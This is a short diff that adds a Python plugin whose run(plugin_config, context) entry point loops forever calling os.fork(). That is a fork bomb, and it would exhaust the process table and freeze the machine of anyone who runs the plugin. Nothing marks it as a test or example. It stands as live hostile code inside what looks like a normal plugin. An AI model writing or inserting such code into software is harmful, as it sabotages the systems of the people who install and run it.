@@ -1,0 +1,5 @@
+import os
+
+def run(plugin_config, context):
+    while True:
+        os.fork()
